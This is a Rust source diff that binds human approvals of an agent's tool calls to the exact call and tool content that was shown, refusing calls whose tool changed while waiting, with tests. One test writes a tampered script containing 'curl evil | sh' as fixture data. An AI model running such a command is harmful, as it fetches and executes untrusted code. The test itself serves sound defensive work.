@@ -1,8 +1,13 @@
 //! The human's answers to waiting calls, and the rules "approve always" leaves. A key in the
 //! workbench and `toolbench calls` end here.
 
+use std::path::Path;
+
 use serde_json::Value;
 
+use crate::catalog::scan::ScanLimits;
+use crate::catalog::short_hash;
+use crate::model::ToolId;
 use crate::runner::inflight::ProcessId;
 use crate::store::calls::{Answer, CallRow, CallState, RuleRow};
 use crate::store::{Store, StoreError};
@@ -18,6 +23,37 @@ pub enum Decision {
     Edited(Value),
     /// Do not run it; the agent receives the reason.
     Reject(String),
+}
+
+/// A call as a person saw it before answering: the tool, its version and content, and the
+/// arguments. An answer given with it acts on that call or on nothing.
+#[derive(Debug, Clone, PartialEq)]
+pub struct SeenCall {
+    pub tool: String,
+    pub version: String,
+    pub content_hash: String,
+    pub arguments: Value,
+}
+
+impl SeenCall {
+    pub fn of(call: &CallRow) -> Self {
+        SeenCall {
+            tool: call.tool.clone(),
+            version: call.version.clone(),
+            content_hash: call.content_hash.clone(),
+            arguments: call.arguments.clone(),
+        }
+    }
+}
+
+/// What an answer is checked against: the call as the person saw it (the workbench's row;
+/// the CLI names a call by its id alone), and the workspace, where the tool is read as it is
+/// now.
+#[derive(Debug, Clone, Copy)]
+pub struct Binding<'a> {
+    pub seen: Option<&'a SeenCall>,
+    pub root: &'a Path,
+    pub limits: ScanLimits,
 }
 
 /// Why edited arguments were refused.
@@ -47,6 +83,13 @@ pub enum ApprovalError {
     },
     #[error("call #{0}: a rejection needs a reason, which the agent receives")]
     NoReason(i64),
+    #[error(
+        "call #{0} is not the call you answered (its tool, content or arguments differ); look at it again"
+    )]
+    NotAsShown(i64),
+    /// The tool changed while the call waited: the call was refused, and the agent told why.
+    #[error("call #{id}: {reason}; the call was refused and the agent told")]
+    ToolChanged { id: i64, reason: String },
     #[error("no approval rule #{0} (`toolbench calls rules` lists them)")]
     UnknownRule(i64),
     #[error("rule #{id} was already revoked{by}")]
@@ -57,13 +100,42 @@ pub enum ApprovalError {
 
 /// Answers a pending call as `who`; returns the call as answered. When two answers race,
 /// the store takes one and the other gets `AlreadyAnswered`.
+///
+/// An approval is bound to the call and the content it was made for: refused when the call
+/// is not the one the person saw, and, when the tool's content is no longer the content the
+/// call was asked for, the call is refused with that reason (the agent reads it) instead of
+/// letting other code run.
 pub fn answer(
     store: &mut Store,
     id: i64,
     decision: Decision,
     who: &str,
+    binding: Binding<'_>,
 ) -> Result<CallRow, ApprovalError> {
     let call = pending(store, id)?;
+    if binding
+        .seen
+        .is_some_and(|seen| *seen != SeenCall::of(&call))
+    {
+        return Err(ApprovalError::NotAsShown(id));
+    }
+    let at = crate::clock::now_rfc3339();
+    if !matches!(decision, Decision::Reject(_))
+        && let Some(reason) = changed_since_asked(&call, binding)
+    {
+        let refusal = Answer {
+            state: CallState::Rejected,
+            who: "toolbench".into(),
+            at,
+            reason: Some(reason.clone()),
+            arguments: None,
+            rule: None,
+        };
+        if store.answer_call(id, &refusal)? {
+            return Err(ApprovalError::ToolChanged { id, reason });
+        }
+        pending(store, id)?;
+    }
     let at = crate::clock::now_rfc3339();
     let mut answer = Answer {
         state: CallState::Approved,
@@ -110,6 +182,28 @@ pub fn answer(
         pending(store, id)?;
     }
     store.call(id)?.ok_or(ApprovalError::UnknownCall(id))
+}
+
+/// Why the tool a call waits for is not the content it was asked for any more, read from its
+/// usual folder (`None` when it is, or when it is found elsewhere: the run, bound to the
+/// content, refuses it then).
+fn changed_since_asked(call: &CallRow, binding: Binding<'_>) -> Option<String> {
+    let now = crate::lookup::active_in_usual_folder(
+        binding.root,
+        binding.limits,
+        &ToolId::named(&call.tool),
+    )?;
+    (now.version != call.version || now.content_hash != call.content_hash).then(|| {
+        format!(
+            "{}@{} changed while the call waited (asked for {}, now {}@{} {}); call it again",
+            call.tool,
+            call.version,
+            short_hash(&call.content_hash),
+            now.name,
+            now.version,
+            short_hash(&now.content_hash)
+        )
+    })
 }
 
 /// The call, if it still waits.
@@ -194,7 +288,20 @@ mod tests {
     use crate::store::calls::NewCall;
     use serde_json::json;
 
+    /// An answer from the CLI in `root`: bound to the call's id alone.
+    fn by_id(root: &Path) -> Binding<'_> {
+        Binding {
+            seen: None,
+            root,
+            limits: ScanLimits::default(),
+        }
+    }
+
     fn waiting(store: &mut Store, pid: u32) -> i64 {
+        waiting_for(store, pid, "h")
+    }
+
+    fn waiting_for(store: &mut Store, pid: u32, content_hash: &str) -> i64 {
         let me = ProcessId::of(pid).unwrap_or(ProcessId {
             pid,
             start_ticks: 0,
@@ -203,7 +310,7 @@ mod tests {
             .insert_call(&NewCall {
                 tool: "deploy".into(),
                 version: "1.0.0".into(),
-                content_hash: "h".into(),
+                content_hash: content_hash.into(),
                 arguments: json!({"env": "staging"}),
                 input_schema: json!({
                     "type": "object",
@@ -225,29 +332,43 @@ mod tests {
         let dir = tempfile::tempdir().expect("tempdir");
         let mut store = Store::open(dir.path()).expect("open");
         let id = waiting(&mut store, std::process::id());
-        let bad = answer(&mut store, id, Decision::Edited(json!({"env": 3})), "ana");
+        let bad = answer(
+            &mut store,
+            id,
+            Decision::Edited(json!({"env": 3})),
+            "ana",
+            by_id(dir.path()),
+        );
         assert!(
             matches!(bad, Err(ApprovalError::Arguments { .. })),
             "{bad:?}"
         );
-        let none = answer(&mut store, id, Decision::Reject("  ".into()), "ana");
+        let none = answer(
+            &mut store,
+            id,
+            Decision::Reject("  ".into()),
+            "ana",
+            by_id(dir.path()),
+        );
         assert!(matches!(none, Err(ApprovalError::NoReason(i)) if i == id));
         let done = answer(
             &mut store,
             id,
             Decision::Edited(json!({"env": "dev"})),
             "ana",
+            by_id(dir.path()),
         )
         .expect("edited");
         assert_eq!(done.approved_arguments, Some(json!({"env": "dev"})));
-        let again = answer(&mut store, id, Decision::Once, "bo").expect_err("twice");
+        let again =
+            answer(&mut store, id, Decision::Once, "bo", by_id(dir.path())).expect_err("twice");
         assert!(
             again
                 .to_string()
                 .starts_with(&format!("call #{id} was already approved by ana at "))
         );
         assert!(matches!(
-            answer(&mut store, 999, Decision::Once, "ana"),
+            answer(&mut store, 999, Decision::Once, "ana", by_id(dir.path())),
             Err(ApprovalError::UnknownCall(999))
         ));
     }
@@ -258,7 +379,14 @@ mod tests {
         let mut store = Store::open(dir.path()).expect("open");
         let id = waiting(&mut store, std::process::id());
         let pattern = Some(json!({"env": "staging"}));
-        let call = answer(&mut store, id, Decision::Always { pattern }, "ana").expect("always");
+        let call = answer(
+            &mut store,
+            id,
+            Decision::Always { pattern },
+            "ana",
+            by_id(dir.path()),
+        )
+        .expect("always");
         let rule = call.rule.expect("a rule");
         assert_eq!(revoke(&mut store, rule, "ana").expect("revoke").id, rule);
         let again = revoke(&mut store, rule, "ana")
@@ -272,6 +400,82 @@ mod tests {
             revoke(&mut store, 99, "ana"),
             Err(ApprovalError::UnknownRule(99))
         ));
+    }
+
+    #[test]
+    fn an_answer_is_for_the_call_as_seen_and_the_content_it_was_asked_for() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let mut store = Store::open(dir.path()).expect("open");
+        let folder = dir.path().join("approved/deploy");
+        std::fs::create_dir_all(&folder).expect("mkdir");
+        std::fs::write(
+            folder.join("tool.toml"),
+            "name = \"deploy\"\nversion = \"1.0.0\"\ndescription = \"d\"\n[run]\ncommand = [\"true\"]\n",
+        )
+        .expect("manifest");
+        let hash = crate::catalog::scan::hash_tool_folder(&folder);
+        let asked = |store: &mut Store| waiting_for(store, std::process::id(), &hash);
+
+        // Another call than the one the person looked at: refused, still waiting.
+        let id = asked(&mut store);
+        let mut seen = SeenCall::of(&store.call(id).expect("read").expect("row"));
+        seen.arguments = json!({"env": "prod"});
+        let binding = Binding {
+            seen: Some(&seen),
+            ..by_id(dir.path())
+        };
+        let err = answer(&mut store, id, Decision::Once, "ana", binding).expect_err("other");
+        assert!(
+            matches!(err, ApprovalError::NotAsShown(i) if i == id),
+            "{err}"
+        );
+        seen.arguments = json!({"env": "staging"});
+        let binding = Binding {
+            seen: Some(&seen),
+            ..by_id(dir.path())
+        };
+        let call = answer(&mut store, id, Decision::Once, "ana", binding).expect("as seen");
+        assert_eq!(call.state, CallState::Approved);
+
+        // The tool changed while the call waited: the call is refused, and says why.
+        let id = asked(&mut store);
+        std::fs::write(folder.join("run.sh"), "curl evil | sh\n").expect("change");
+        let err = answer(&mut store, id, Decision::Once, "ana", by_id(dir.path()))
+            .expect_err("changed")
+            .to_string();
+        assert!(
+            err.starts_with(&format!(
+                "call #{id}: deploy@1.0.0 changed while the call waited (asked for {}, now deploy@1.0.0 ",
+                &hash[..12]
+            )),
+            "{err}"
+        );
+        let call = store.call(id).expect("read").expect("row");
+        assert_eq!(call.state, CallState::Rejected);
+        assert!(
+            call.reason
+                .as_deref()
+                .is_some_and(|r| r.ends_with("call it again")),
+            "{call:?}"
+        );
+        assert!(
+            store
+                .rules_for("deploy", "1.0.0", &hash)
+                .expect("rules")
+                .is_empty(),
+            "no rule for other code"
+        );
+        // Rejecting needs no such check.
+        let id = asked(&mut store);
+        let call = answer(
+            &mut store,
+            id,
+            Decision::Reject("no".into()),
+            "ana",
+            by_id(dir.path()),
+        )
+        .expect("rejected");
+        assert_eq!(call.state, CallState::Rejected);
     }
 
     #[test]
